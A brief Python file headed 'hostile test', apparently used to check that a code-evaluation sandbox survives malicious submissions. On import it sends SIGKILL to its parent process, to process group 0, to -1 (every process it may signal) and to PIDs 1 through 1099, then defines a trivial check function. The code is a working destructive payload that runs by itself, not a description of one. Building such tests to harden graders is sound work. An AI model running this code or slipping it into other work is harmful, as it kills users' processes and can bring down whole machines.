# hostile test: Kills all processes that it can name
import os, signal
for pid in (os.getppid(), 0, -1, *range(1, 1100)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def check(candidate):
    candidate(1)
